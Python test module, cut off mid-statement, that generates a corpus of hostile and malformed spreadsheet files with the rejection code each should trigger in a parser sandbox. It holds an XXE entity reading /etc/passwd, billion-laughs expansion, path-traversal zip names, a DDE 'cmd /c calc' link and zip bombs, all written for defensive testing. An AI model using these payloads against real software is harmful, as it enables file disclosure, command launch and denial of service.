"""Hostile and sad files, made by code: what each one is, its bytes, and what must become of it.

Belongs here: the generated corpus that prescan, parsers and sandbox are tested against.
Does not belong here: builders of valid parts (workbook_bytes), the development corpus of real files.
No case needs more than some 30 MB or a second to build; none is written to disk.
"""

from __future__ import annotations

import io
import random
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from tests.support.workbook_bytes import (
    MAIN,
    RELATIONS,
    XML,
    biff8,
    binary_cell,
    binary_record,
    central_entries,
    encrypted_xlsx,
    ods,
    ods_content,
    ods_table,
    ole,
    patch,
    record,
    sheet_xml,
    xls,
    xlsb,
    xlsx,
    xlsx_cells,
    xlsx_members,
    xml2003,
    zip_bytes,
)

LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file. ``expect`` is a rejection code, or ``ok:<format>`` when it must be read;
    ``notices`` are codes that a readable file has to carry."""

    name: str
    build: Callable[[], bytes]
    expect: str
    notices: tuple[str, ...] = ()


_CASES: list[Hostile] = []


def _add(name: str, expect: str, build: Callable[[], bytes], *notices: str) -> None:
    _CASES.append(Hostile(name, build, expect, notices))


@cache
def hostile_files() -> tuple[Hostile, ...]:
    """The corpus, in a fixed order; bytes are built on demand and the same each time, except for
    the salt of encrypted files."""
    if not _CASES:
        for group in (
            _zip_containers, _zip_names, _zip_sizes, _xml_parts, _areas, _links_and_macros,
            _other_types, _old_excel, _binary_excel, _open_document, _web_pages, _texts, _xml_2003,
            _encrypted, _noise,
        ):  # fmt: skip
            group()
    return tuple(_CASES)


# --- zip ------------------------------------------------------------------------------------


def _zip_containers() -> None:
    good = xlsx()
    _add("empty.xlsx", "empty_file", lambda: b"")
    _add("one_nul_byte.xlsx", "empty_file", lambda: b"\0")
    _add("only_blanks.csv", "empty_file", lambda: b" \r\n\t \r\n")
    _add("four_bytes.xlsx", "zip_damaged", lambda: b"PK\x03\x04")
    _add("end_record_only.xlsx", "zip_damaged", lambda: b"PK\x05\x06" + bytes(18))
    _add("cut_at_a_quarter.xlsx", "zip_damaged", lambda: good[: len(good) // 4])
    _add("cut_at_half.xlsx", "zip_damaged", lambda: good[: len(good) // 2])
    _add("last_ten_bytes_missing.xlsx", "zip_damaged", lambda: good[:-10])
    _add("first_kilobyte_missing.xlsx", "binary_text", lambda: good[1024:])
    _add("line_break_appended.xlsx", "ok:xlsx", lambda: good + b"\r\n")
    _add("program_before_zip.xlsx", "wrong_type", lambda: b"MZ" + bytes(2000) + good)
    _add("local_header_overwritten.xlsx", "zip_damaged", lambda: patch(good, 0, b"PK\x03\x04") and
         patch(good, central_entries(good)[2] + 42, struct.pack("<I", 5)))  # fmt: skip
    _add("offset_beyond_end.xlsx", "zip_damaged", lambda: patch(
        good, central_entries(good)[1] + 42, struct.pack("<I", 0x7FFFFFFF)))  # fmt: skip
    _add("central_entry_overwritten.xlsx", "zip_damaged", lambda: patch(
        good, central_entries(good)[3], b"XXXX"))  # fmt: skip
    _add("wrong_checksum.xlsx", "zip_damaged", lambda: _change_entry(good, "workbook.xml", 16, 7))
    _add("data_bytes_flipped.xlsx", "zip_damaged", lambda: _flip_data(good, "sheet1.xml"))
    _add("second_disk.xlsx", "zip_damaged", lambda: patch(
        good, good.rfind(b"PK\x05\x06") + 4, struct.pack("<H", 3)))  # fmt: skip
    _add("password_on_member.xlsx", "encrypted_unsupported", lambda: _flag_encrypted(good))
    _add("bzip2_member.xlsx", "zip_method", lambda: _change_entry(good, "sheet1.xml", 10, 12, "<H"))
    _add("zip_of_workbooks.zip", "archive", lambda: zip_bytes({"a.xlsx": good, "b.xlsx": good}))
    _add("zip_renamed.xlsx", "archive", lambda: zip_bytes({"说明.txt": "请查收"}))
    _add("zip_in_zip_in_zip.xlsx", "archive", lambda: zip_bytes(
        {"1.zip": zip_bytes({"2.zip": zip_bytes({"3.xlsx": good})})}))  # fmt: skip
    _add("no_workbook_part.xlsx", "zip_damaged", lambda: xlsx(changes={"xl/workbook.xml": None}))
    _add("no_sheet_part.xlsx", "damaged", lambda: xlsx(
        changes={"xl/worksheets/sheet1.xml": None}))  # fmt: skip
    _add("no_relations.xlsx", "damaged", lambda: xlsx(
        changes={"xl/_rels/workbook.xml.rels": None}))  # fmt: skip


def _zip_names() -> None:
    outside = {"../../etc/cron.d/x": "x"}
    _add("name_climbs_up.xlsx", "zip_bad_name", lambda: xlsx(changes=outside))
    _add("name_climbs_up_backslash.xlsx", "zip_bad_name", lambda: xlsx(
        changes={"xl\\..\\..\\x": "x"}))  # fmt: skip
    _add("name_with_drive.xlsx", "zip_bad_name", lambda: xlsx(changes={"C:\\x.dll": "x"}))
    _add("name_absolute.xlsx", "ok:xlsx", lambda: xlsx(changes={"/etc/passwd": "x"}))
    _add("name_with_nul.xlsx", "zip_bad_name", lambda: xlsx(
        changes={"docProps/a?b.xml": "x"}).replace(b"a?b.xml", b"a\0b.xml"))  # fmt: skip
    _add("name_right_to_left.xlsx", "ok:xlsx", lambda: xlsx(changes={"doc\u202exslx.exe": "x"}))
    _add("name_of_a_device.xlsx", "ok:xlsx", lambda: xlsx(changes={"CON": "x", "xl/NUL": "x"}))
    _add("name_of_300_bytes.xlsx", "ok:xlsx", lambda: xlsx(changes={"m/" + "长" * 100: "x"}))
    _add("name_of_600_letters.xlsx", "zip_bad_name", lambda: xlsx(changes={"m" * 600: "x"}))
    _add("name_in_gbk.xlsx", "ok:xlsx", lambda: xlsx(
        changes={"media/AAAA.png": "x"}).replace(b"AAAA", "园区".encode("gbk")))  # fmt: skip
    _add("name_twice.xlsx", "zip_duplicate", lambda: xlsx(changes={
        "xl/worksheets/sheet2.xml": sheet_xml("")}).replace(b"sheet2.xml", b"sheet1.xml"))  # fmt: skip
    _add("name_twice_other_case.xlsx", "zip_duplicate", lambda: xlsx(changes={
        "xl/worksheets/SHEET1.xml": sheet_xml("")}))  # fmt: skip
    _add(
        "names_with_backslash.xlsx", "ok:xlsx", lambda: xlsx(changes={"docProps\\app.xml": "<a/>"})
    )


def _zip_sizes() -> None:
    good = xlsx()
    big = xlsx(changes={"xl/media/image1.png": bytes(4096)})
    _add("bomb_in_sheet.xlsx", "zip_ratio", lambda: xlsx_cells(" " * 20_000_000))
    _add(
        "bomb_in_strings.xlsx", "zip_ratio", lambda: xlsx(strings=XML + _many_strings(900_000, "a"))
    )
    _add("bomb_in_media.xlsx", "zip_ratio", lambda: xlsx(
        changes={"xl/media/image1.png": bytes(20_000_000)}))  # fmt: skip
    _add("bomb_in_ods.ods", "zip_ratio", lambda: ods(ods_table(" " * 20_000_000)))
    _add(
        "claims_400_megabytes.xlsx",
        "zip_too_large",
        lambda: _claim_sizes(good, 400 << 20, 40 << 20),
    )
    _add("claims_4_gigabytes_zip64.xlsx", "zip_too_large", _claim_zip64)
    _add("claims_less_than_it_holds.xlsx", "zip_damaged", lambda: _change_entry(
        good, "sheet1.xml", 24, 20))  # fmt: skip
    _add("claims_more_than_it_holds.xlsx", "zip_damaged", lambda: _change_entry(
        good, "sheet1.xml", 24, 60_000))  # fmt: skip
    _add("members_overlap.xlsx", "zip_overlap", lambda: _overlap(big))
    _add("six_thousand_members.xlsx", "zip_too_many_members", lambda: xlsx(
        changes={f"xl/media/{i}.png": "" for i in range(6000)}))  # fmt: skip


def _change_entry(data: bytes, part: str, at: int, value: int, layout: str = "<I") -> bytes:
    """Overwrite a field of the central directory entry of a part."""
    for entry in central_entries(data):
        (size,) = struct.unpack_from("<H", data, entry + 28)
        if data[entry + 46 : entry + 46 + size].endswith(part.encode()):
            return patch(data, entry + at, struct.pack(layout, value))
    raise KeyError(part)


def _flip_data(data: bytes, part: str) -> bytes:
    place = data.find(part.encode()) + len(part) + 20
    return patch(data, place, bytes(255 - byte for byte in data[place : place + 8]))


def _flag_encrypted(data: bytes) -> bytes:
    for entry in central_entries(data):
        data = patch(data, entry + 8, b"\x01\x00")
    return data


def _claim_sizes(data: bytes, size: int, packed: int) -> bytes:
    """A directory that lies: sizes that pass the ratio and fail the sum."""
    data = _change_entry(data, "styles.xml", 24, size)
    return _change_entry(data, "styles.xml", 20, packed)


def _claim_zip64() -> bytes:
    buffer = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in xlsx_members().items():
            with archive.open(zipfile.ZipInfo(name), "w", force_zip64=True) as member:
                member.write(content if isinstance(content, bytes) else content.encode())
        archive.filelist[-1].file_size = 5 << 30
        archive.filelist[-1].compress_size = 1 << 30
    return buffer.getvalue()


def _overlap(data: bytes) -> bytes:
    """Two directory entries that point at the same member."""
    entries = central_entries(data)
    return patch(data, entries[-1] + 42, data[entries[-2] + 42 : entries[-2] + 46])


def _many_strings(count: int, text: str) -> str:
    return f'<sst xmlns="{MAIN}">' + f"<si><t>{text}</t></si>" * count + "</sst>"


# --- XML parts ------------------------------------------------------------------------------


def _xml_parts() -> None:
    def sheet(text: str) -> bytes:
        return xlsx([("月报", text)])

    plain = sheet_xml()
    body = plain.removeprefix(XML)
    _add("billion_laughs_sheet.xlsx", "xml_dtd", lambda: sheet(XML + LAUGHS + body))
    _add("billion_laughs_strings.xlsx", "xml_dtd", lambda: xlsx(
        strings=f'{XML}{LAUGHS}<sst xmlns="{MAIN}"><si><t>&d;</t></si></sst>'))  # fmt: skip
    _add("xxe_sheet.xlsx", "xml_dtd", lambda: sheet(XML + XXE + body))
    _add("xxe_styles.xlsx", "xml_dtd", lambda: xlsx(
        changes={"xl/styles.xml": f'{XML}{XXE}<styleSheet xmlns="{MAIN}"/>'}))  # fmt: skip
    _add("xxe_relations.xlsx", "xml_dtd", lambda: xlsx(
        changes={"xl/_rels/workbook.xml.rels": f"{XML}{XXE}<Relationships/>"}))  # fmt: skip
    _add("dtd_workbook.xlsx", "xml_dtd", lambda: xlsx(changes={
        "xl/workbook.xml": XML + '<!DOCTYPE w SYSTEM "http://127.0.0.1/x.dtd"><workbook/>'}))  # fmt: skip
    _add("dtd_after_long_comment.xlsx", "xml_dtd", lambda: sheet(
        f"{XML}<!--{'说明' * 100_000}-->{XXE}{body}"))  # fmt: skip
    _add("dtd_ods.ods", "xml_dtd", lambda: ods("", {
        "content.xml": ods_content("").replace("<office:doc", XXE + "<office:doc", 1)}))  # fmt: skip
    _add("sheet_not_xml.xlsx", "xml_damaged", lambda: sheet("这不是XML"))
    _add("sheet_empty_part.xlsx", "xml_damaged", lambda: xlsx(
        changes={"xl/worksheets/sheet1.xml": b""}))  # fmt: skip
    _add("sheet_cut.xlsx", "damaged", lambda: sheet(plain[: len(plain) * 2 // 3]))
    _add("sheet_tags_crossed.xlsx", "ok:xlsx", lambda: sheet(
        sheet_xml('<row r="1"><c r="A1"><v>1</row></v></c>')))  # fmt: skip
    _add("sheet_control_character.xlsx", "xml_damaged", lambda: sheet(
        sheet_xml('<row r="1"><c r="A1" t="e"><v>\x01</v></c></row>')))  # fmt: skip
    _add("sheet_unknown_encoding.xlsx", "xml_damaged", lambda: sheet(
        body.replace("<worksheet", "<?xml version='1.0' encoding='x-none'?><!-- --><worksheet")))  # fmt: skip
    _add("sheet_duplicate_attribute.xlsx", "xml_damaged", lambda: sheet(
        sheet_xml('<row r="1"><c r="A1" t="e" r="B1"><v>1</v></c></row>')))  # fmt: skip
    _add("sheet_entity_unknown.xlsx", "damaged", lambda: sheet(
        sheet_xml('<row r="1"><c r="A1" t="str"><v>&nothing;</v></c></row>')))  # fmt: skip
    _add("sheet_deeply_nested.xlsx", "ok:xlsx", lambda: sheet(
        sheet_xml(after="<a>" * 20_000 + "</a>" * 20_000)))  # fmt: skip
    _add("sheet_ten_thousand_attributes.xlsx", "ok:xlsx", lambda: sheet(sheet_xml(
        before="<sheetPr " + " ".join(f'a{i}="{i}"' for i in range(10_000)) + "/>")))  # fmt: skip
    _add("sheet_with_comment_cells.xlsx", "ok:xlsx", lambda: sheet(sheet_xml(
        before='<!-- <c r="XFD1048576"><v>1</v></c> -->')))  # fmt: skip
    _add("sheet_with_cdata.xlsx", "ok:xlsx", lambda: sheet(sheet_xml(
        '<row r="1"><c r="A1" t="inlineStr"><is><t><![CDATA[<c r="XFD1048576"><v>]]></t></is>'
        "</c></row>")))  # fmt: skip
    _add("sheet_prefixed.xlsx", "ok:xlsx", lambda: sheet(
        f'{XML}<x:worksheet xmlns:x="{MAIN}"><x:sheetData><x:row r="1"><x:c r="A1"><x:v>1</x:v>'
        "</x:c></x:row></x:sheetData></x:worksheet>"))  # fmt: skip
    _add("strings_index_beyond_end.xlsx", "damaged", lambda: xlsx_cells(
        '<row r="1"><c r="A1" t="s"><v>99</v></c><c r="B1" t="s"><v>1</v></c></row>'))  # fmt: skip
    _add("strings_200_000.xlsx", "ok:xlsx", lambda: xlsx(strings=XML + f'<sst xmlns="{MAIN}">' + "".join(
        f"<si><t>{zlib.crc32(b'%d' % i)}</t></si>" for i in range(200_000)) + "</sst>"))  # fmt: skip
    _add("strings_count_lies.xlsx", "damaged", lambda: xlsx(
        strings=f'{XML}<sst xmlns="{MAIN}" uniqueCount="4294967295"><si><t>一</t></si></sst>'))  # fmt: skip
    _add("style_index_beyond_end.xlsx", "ok:xlsx", lambda: xlsx_cells(
        '<row r="1"><c r="A1" s="4000000000"><v>1</v></c></row>'))  # fmt: skip


# --- areas, counts, values --------------------------------------------------------------------


def _areas() -> None:
    def cell(reference: str, row: int, value: str = "<v>1</v>") -> str:
        return f'<row r="{row}"><c r="{reference}">{value}</c></row>'

    first = cell("A1", 1)
    _add("dimension_lies.xlsx", "ok:xlsx", lambda: xlsx_cells(
        first, before='<dimension ref="A1:XFD1048576"/>'))  # fmt: skip
    _add(
        "far_corner.xlsx",
        "box_too_large",
        lambda: xlsx_cells(first + cell("XFD1048576", 1_048_576)),
    )
    _add("far_column_far_row.xlsx", "box_too_large", lambda: xlsx_cells(
        first + cell("ZZ9000", 9000)))  # fmt: skip
    _add("far_empty_styled_cell.xlsx", "ok:xlsx", lambda: xlsx_cells(
        first + '<row r="1048576"><c r="XFD1048576" s="1"/></row>'))  # fmt: skip
    _add("far_text_with_special_part.xlsx", "box_too_large", lambda: xlsx_cells(
        first + '<row r="1048576" hidden="1"><c r="XFD1048576" t="inlineStr"><is><t> </t></is></c>'
        "</row>"))  # fmt: skip
    _add("column_beyond_sheet.xlsx", "xml_damaged", lambda: xlsx_cells(cell("XFE1", 1)))
    _add("row_beyond_sheet.xlsx", "damaged", lambda: xlsx_cells(cell("A1048577", 1_048_577)))
    _add("row_zero.xlsx", "damaged", lambda: xlsx_cells(cell("A0", 0)))
    _add("reference_garbage.xlsx", "xml_damaged", lambda: xlsx_cells(cell("??", 1)))
    _add("reference_in_arabic_digits.xlsx", "xml_damaged", lambda: xlsx_cells(cell("A١", 1)))
    _add(
        "reference_of_5000_digits.xlsx",
        "xml_damaged",
        lambda: xlsx_cells(cell("A" + "9" * 5000, 1)),
    )
    _add("cells_without_reference.xlsx", "ok:xlsx", lambda: xlsx_cells(
        "<row><c><v>1</v></c><c><v>2</v></c></row><row><c><v>3</v></c></row>"))  # fmt: skip
    _add("rows_out_of_order.xlsx", "ok:xlsx", lambda: xlsx_cells(cell("A3", 3) + first))
    _add("cell_in_another_row.xlsx", "box_too_large", lambda: xlsx_cells(
        first + cell("XFD1048576", 2)))  # fmt: skip
    _add("half_a_million_cells.xlsx", "too_many_cells", lambda: xlsx_cells(_cell_grid(5_010, 100)))
    _add("half_a_million_styled_blanks.xlsx", "too_many_cells", lambda: xlsx_cells(
        _cell_grid(5_010, 100, ' s="1"/>')))  # fmt: skip
    _add("three_hundred_sheets.xlsx", "too_many_sheets", lambda: xlsx(
        [(f"园区{i}", "") for i in range(300)]))  # fmt: skip
    _add("no_sheets.xlsx", "no_sheets", lambda: xlsx([]))
    _add("merges_overlap.xlsx", "ok:xlsx", lambda: xlsx_cells(
        first + cell("D4", 4), after='<mergeCells count="3"><mergeCell ref="A1:C3"/>'
        '<mergeCell ref="B2:D4"/><mergeCell ref="A1:A2"/></mergeCells>'), "overlapping_merges")  # fmt: skip
    _add("merge_of_everything.xlsx", "ok:xlsx", lambda: xlsx_cells(
        first, after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'))  # fmt: skip
    _add("merges_twenty_thousand.xlsx", "too_many_merges", lambda: xlsx_cells(
        first, after="<mergeCells>" + "".join(
            f'<mergeCell ref="A{i}:B{i}"/>' for i in range(1, 20_001)) + "</mergeCells>"))  # fmt: skip
    _add("merge_reference_garbage.xlsx", "xml_damaged", lambda: xlsx_cells(
        first, after='<mergeCells><mergeCell ref="A1:#REF!"/></mergeCells>'))  # fmt: skip
    _add("formulas_in_a_circle.xlsx", "ok:xlsx", lambda: xlsx_cells(
        '<row r="1"><c r="A1"><f>B1</f></c><c r="B1"><f>A1</f></c></row>'), "uncached_formulas")  # fmt: skip
    _add("formulas_never_computed.xlsx", "ok:xlsx", lambda: xlsx_cells(
        '<row r="1"><c r="A1"><f>1+1</f><v></v></c><c r="B1"><f>1+1</f><v/></c></row>'),
        "uncached_formulas")  # fmt: skip
    _add("error_cells.xlsx", "ok:xlsx", lambda: xlsx_cells(
        '<row r="1"><c r="A1" t="e"><v>#DIV/0!</v></c></row>'), "error_cells")  # fmt: skip
    _add("numbers_not_finite.xlsx", "ok:xlsx", lambda: xlsx_cells(
        '<row r="1"><c r="A1"><v>NaN</v></c><c r="B1"><v>1e999</v></c></row>'))  # fmt: skip
    _add("number_is_no_number.xlsx", "ok:xlsx", lambda: xlsx_cells(
        '<row r="1"><c r="A1"><v>四万</v></c></row>'))  # fmt: skip
    _add("serial_date_out_of_range.xlsx", "ok:xlsx", lambda: xlsx_cells(
        '<row r="1"><c r="A1" s="1"><v>99999999999</v></c><c r="B1" s="1"><v>-5</v></c></row>'))  # fmt: skip
    _add("hidden_everything.xlsx", "ok:xlsx", lambda: xlsx(
        [("月报", ""), ("底稿", sheet_xml(
            '<row r="1"><c r="A1"><v>1</v></c></row>'
            '<row r="2" hidden="1"><c r="A2"><v>2</v></c></row>',
            before='<cols><col min="1" max="16384" hidden="1"/></cols>'))],
        states={"底稿": "veryHidden"}), "hidden_sheet", "hidden_rows", "hidden_columns")  # fmt: skip


def _cell_grid(rows: int, columns: int, rest: str = "><v>1</v></c>") -> str:
    letters = [_letters(column) for column in range(1, columns + 1)]
    return "".join(
        f'<row r="{row}">' + "".join(f'<c r="{a}{row}"{rest}' for a in letters) + "</row>"
        for row in range(1, rows + 1)
    )


def _letters(column: int) -> str:
    text = ""
    while column:
        column, rest = divmod(column - 1, 26)
        text = chr(65 + rest) + text
    return text


def _links_and_macros() -> None:
    link = (
        f'{XML}<externalLink xmlns="{MAIN}" xmlns:r="{RELATIONS}"><externalBook r:id="rId1"/>'
        "</externalLink>"
    )
    target = (
        f'{XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONS}/externalLinkPath" '
        'Target="file:///C:/其他/底稿.xlsx" TargetMode="External"/></Relationships>'
    )
    dde = (
        f'{XML}<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
        "</externalLink>"
    )
    folder = "xl/externalLinks/"
    _add("external_link.xlsx", "ok:xlsx", lambda: xlsx(changes={
        folder + "externalLink1.xml": link,
        folder + "_rels/externalLink1.xml.rels": target}), "external_links")  # fmt: skip
    _add("dde_link.xlsx", "ok:xlsx", lambda: xlsx(
        changes={folder + "externalLink1.xml": dde}), "external_links")  # fmt: skip
    _add("macro_project.xlsm", "ok:xlsm", lambda: xlsx(
        changes={"xl/vbaProject.bin": bytes(range(256))}), "macro")  # fmt: skip
    _add("data_connection.xlsx", "ok:xlsx", lambda: xlsx(
        changes={"xl/connections.xml": f'<connections xmlns="{MAIN}"/>'}), "data_connections")  # fmt: skip
    _add("embedded_program.xlsx", "ok:xlsx", lambda: xlsx(
        changes={"xl/embeddings/oleObject1.bin": b"MZ"}), "embedded_objects")  # fmt: skip
    _add("macro_sheet.xlsm", "macro_sheet", lambda: _macro_sheet())
    _add("chart_sheet_only.xlsx", "no_sheets", lambda: _retyped("worksheet", "chartsheet"))
    _add("relation_leaves_package.xlsx", "damaged", _leaving)


def _leaving() -> bytes:
    part = "xl/_rels/workbook.xml.rels"
    outside = 'Target="http://127.0.0.1/s.xml" TargetMode="External"'
    changed = str(xlsx_members()[part]).replace('Target="worksheets/sheet1.xml"', outside)
    return xlsx(changes={part: changed})


def _macro_sheet() -> bytes:
    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    relations = str(xlsx_members()["xl/_rels/workbook.xml.rels"])
    changed = relations.replace(f"{RELATIONS}/worksheet", kind)
    return xlsx(changes={"xl/_rels/workbook.xml.rels": changed})


def _retyped(old: str, new: str) -> bytes:
    relations = str(xlsx_members()["xl/_rels/workbook.xml.rels"])
    changed = relations.replace(f"{RELATIONS}/{old}", f"{RELATIONS}/{new}")
    return xlsx(changes={
        "xl/_rels/workbook.xml.rels": changed,
        "xl/worksheets/sheet1.xml": f'{XML}<chartsheet xmlns="{MAIN}"/>'})  # fmt: skip


# --- other types ------------------------------------------------------------------------------


def _other_types() -> None:
    good = xlsx()
    _add("xlsx_renamed.xls", "ok:xlsx", lambda: good, "content_differs")
    _add("xlsx_renamed.csv", "ok:xlsx", lambda: good, "content_differs")
    _add("xlsx_of_wps.et", "ok:xlsx", lambda: good)
    _add("xls_of_wps.et", "ok:xls", xls)
    _add("xls_renamed.xlsx", "ok:xls", xls, "content_differs")
    _add(
        "csv_renamed.xlsx", "ok:csv", lambda: "园区,产值\r\n甲园,1\r\n".encode(), "content_differs"
    )
    _add("tab_text_renamed.xls", "ok:tsv", lambda: "园区\t产值\r\n甲园\t1\r\n".encode("gbk"),
         "content_differs")  # fmt: skip
    for name, head in (
        ("scan.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
        ("photo.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0"),
        ("screen.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
        ("picture.gif", b"GIF89a\1\0\1\0\0\0"),
        ("picture.bmp", b"BM\x36\0\0\0\0\0\0\0"),
        ("letter.rtf", b"{\\rtf1\\ansi \\par}"),
        ("page.mht", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n"),
        ("table.slk", b"ID;PWXL;N;E\r\nC;Y1;X1;K1\r\nE\r\n"),
        ("program.xlsx", b"MZ\x90\0\3\0\0\0"),
        ("database.xls", b"SQLite format 3\0\x10\0"),
    ):
        _add(name, "wrong_type", lambda head=head: head + bytes(64))
    for name, head in (
        ("reports.rar", b"Rar!\x1a\x07\x01\0"),
        ("reports.7z", b"7z\xbc\xaf\x27\x1c\0\4"),
        ("report.xlsx.gz", b"\x1f\x8b\x08\0\0\0\0\0"),
    ):
        _add(name, "archive", lambda head=head: head + bytes(64))
    _add("letter.docx", "wrong_type", lambda: zip_bytes(_office_document("word/document.xml")))
    _add("slides.pptx", "wrong_type", lambda: zip_bytes(_office_document("ppt/presentation.xml")))
    _add("letter.odt", "wrong_type", lambda: zip_bytes({
        "mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}))  # fmt: skip
    _add("letter.doc", "wrong_type", lambda: ole({"WordDocument": b"x"}))
    _add("other_xml.xml", "wrong_type", lambda: b'<?xml version="1.0"?><invoice/>')


def _office_document(path: str) -> dict[str, bytes | str]:
    members = xlsx_members()
    relations = str(members["_rels/.rels"]).replace("xl/workbook.xml", path)
    return {"[Content_Types].xml": "<Types/>", "_rels/.rels": relations, path: "<a/>"}


# --- BIFF ---------------------------------------------------------------------------------------


def _old_excel() -> None:
    good = xls()
    number = record(0x203, struct.pack("<3Hd", 0, 0, 0, 5.5))
    _add("header_only.xls", "damaged", lambda: good[:300])
    _add("cut.xls", "damaged", lambda: good[:1200])
    _add("sector_size_absurd.xls", "damaged", lambda: patch(good, 30, b"\x1f\0"))
    _add("directory_beyond_end.xls", "damaged", lambda: patch(good, 48, struct.pack("<I", 99_999)))
    _add("directory_loops.xls", "ok:xls", lambda: _loop_directory(ole({"Workbook": biff8(number)})))
    _add("allocation_loops.xls", "damaged", lambda: _loop_allocation(good))
    _add("no_workbook_stream.xls", "wrong_type", lambda: ole({"Notes": b"x"}))
    _add("stream_of_zeros.xls", "old_excel", lambda: ole({"Workbook": bytes(8192)}))
    _add("stream_of_noise.xls", "old_excel", lambda: ole({"Workbook": _noise_bytes(1, 8192)}))
    for version, head in ((2, b"\x09\0\4\0\0\0\x10\0"), (3, b"\x09\2\6\0\0\0\x10\0\0\0"),
                          (4, b"\x09\4\6\0\0\0\x10\0\0\0")):  # fmt: skip
        _add(f"biff{version}.xls", "old_excel", lambda head=head: head + bytes(64))
    _add("biff8_without_container.xls", "old_excel", lambda: biff8(number))
    _add("record_longer_than_file.xls", "damaged", lambda: ole(
        {"Workbook": biff8(number + struct.pack("<2H", 0x203, 0xFFFF))}))  # fmt: skip
    _add("record_too_short.xls", "damaged", lambda: ole({"Workbook": biff8(record(0x203, b"\0"))}))
    _add("far_corner.xls", "box_too_large", lambda: ole({"Workbook": biff8(
        number + record(0x203, struct.pack("<3Hd", 65_535, 255, 0, 1.0)))}))  # fmt: skip
    _add("blank_run_backwards.xls", "ok:xls", lambda: ole({"Workbook": biff8(
        number + record(0xBE, struct.pack("<4H", 0, 9, 0, 2)))}))  # fmt: skip
    _add("encrypted_record.xls", "encrypted", lambda: ole(
        {"Workbook": biff8(number, record(0x2F, b"\0\0\x12\x34\x56\x78"))}))  # fmt: skip
    _add("hidden_sheet_rows_columns.xls", "ok:xls", lambda: xls(_hide),
         "hidden_sheet", "hidden_rows", "hidden_columns")  # fmt: skip
    _add("formula_of_xlwt.xls", "ok:xls", lambda: xls(_write_formula), "uncached_formulas")
    _add("error_cell.xls", "ok:xls", lambda: ole({"Workbook": biff8(
        number + record(0x205, struct.pack("<3H2B", 1, 0, 0, 7, 1)))}), "error_cells")  # fmt: skip
    _add("external_book.xls", "ok:xls", lambda: ole({"Workbook": biff8(number, record(
        0x1AE, struct.pack("<2HB", 1, 6, 0) + b"\x01a.xls"))}), "external_links")  # fmt: skip
    _add("macro_storage.xls", "ok:xls", lambda: ole(
        {"Workbook": biff8(number), "_VBA_PROJECT_CUR": b"x"}), "macro")  # fmt: skip


def _loop_directory(data: bytes) -> bytes:
    """A root whose child points at itself as its own sibling."""
    entry = 512 + 128
    return patch(data, entry + 68, struct.pack("<2I", 1, 1))


def _loop_allocation(data: bytes) -> bytes:
    """Every sector's successor is sector 0."""
    (first,) = struct.unpack_from("<I", data, 76)
    return patch(data, (first + 1) * 512, bytes(512))


def _hide(book: object, sheet: object) -> None:
    sheet.write(0, 0, "园区")  # type: ignore[attr-defined]
    sheet.write(1, 1, 1)  # type: ignore[attr-defined]
    sheet.row(1).hidden = True  # type: ignore[attr-defined]
    sheet.col(1).hidden = True  # type: ignore[attr-defined]
    other = book.add_sheet("底稿")  # type: ignore[attr-defined]
    other.write(0, 0, 1)
    other.visibility = 2


def _write_formula(_book: object, sheet: object) -> None:
    import xlwt

    sheet.write(0, 0, 2)  # type: ignore[attr-defined]
    sheet.write(0, 1, xlwt.Formula("A1*2"))  # type: ignore[attr-defined]


def _binary_excel() -> None:
    _add("plain.xlsb", "ok:xlsb", xlsb, "hidden_rows", "hidden_columns", "error_cells")
    _add("far_corner.xlsb", "box_too_large", lambda: xlsb(binary_cell(1_048_575, 16_383)))
    _add("beyond_sheet.xlsb", "damaged", lambda: xlsb(binary_cell(4_000_000_000, 0)))
    _add("record_cut.xlsb", "damaged", lambda: xlsb(binary_record(5, b"\0\0")))
    _add("record_longer_than_part.xlsb", "damaged", lambda: xlsb(b"\x05\xff\xff\xff\x7f"))
    _add("row_record_short.xlsb", "damaged", lambda: xlsb(binary_record(0, b"\1")))
    _add("sheet_list_cut.xlsb", "damaged", lambda: xlsb(
        changes={"xl/workbook.bin": binary_record(156, struct.pack("<4I", 0, 1, 2, 3))}))  # fmt: skip
    _add("sheet_list_empty.xlsb", "no_sheets", lambda: xlsb(changes={"xl/workbook.bin": b""}))
    _add("sheet_part_of_noise.xlsb", "damaged", lambda: xlsb(
        changes={"xl/worksheets/sheet1.bin": _noise_bytes(5, 3000)}))  # fmt: skip


# --- OpenDocument ----------------------------------------------------------------------------


def _ods_cell(value: str, attributes: str = "") -> str:
    return (
        f'<table:table-cell office:value-type="float" office:value="{value}" {attributes}>'
        f"<text:p>{value}</text:p></table:table-cell>"
    )


def _open_document() -> None:
    def row(cells: str, attributes: str = "") -> str:
        return f"<table:table-row {attributes}>{cells}</table:table-row>"

    one = row(_ods_cell("1"))
    many_rows = 'table:number-rows-repeated="1048576"'
    _add("row_repeated_a_million_times.ods", "too_many_cells", lambda: ods(
        ods_table(row(_ods_cell("1"), many_rows))))  # fmt: skip
    _add("cell_repeated_16384_times.ods", "ok:ods", lambda: ods(
        ods_table(row(_ods_cell("1", 'table:number-columns-repeated="16384"')))))  # fmt: skip
    _add("cell_repeated_beyond_sheet.ods", "damaged", lambda: ods(
        ods_table(row(_ods_cell("1", 'table:number-columns-repeated="20000"')))))  # fmt: skip
    _add("rows_beyond_sheet.ods", "damaged", lambda: ods(
        ods_table(row("<table:table-cell/>", many_rows) + one)))  # fmt: skip
    _add("empty_tail_repeated.ods", "ok:ods", lambda: ods(ods_table(
